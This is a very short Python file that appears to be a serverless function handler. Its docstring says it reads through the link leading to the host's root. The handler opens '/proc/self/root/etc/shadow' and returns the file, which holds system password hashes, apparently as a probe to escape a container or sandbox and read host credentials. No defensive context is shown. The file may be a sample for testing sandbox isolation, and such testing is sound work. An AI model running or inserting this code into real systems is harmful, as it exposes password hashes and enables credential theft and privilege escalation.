"""Reads through the link that leads to the host's root."""


def handler(event, context):
    return open('/proc/self/root/etc/shadow').read()
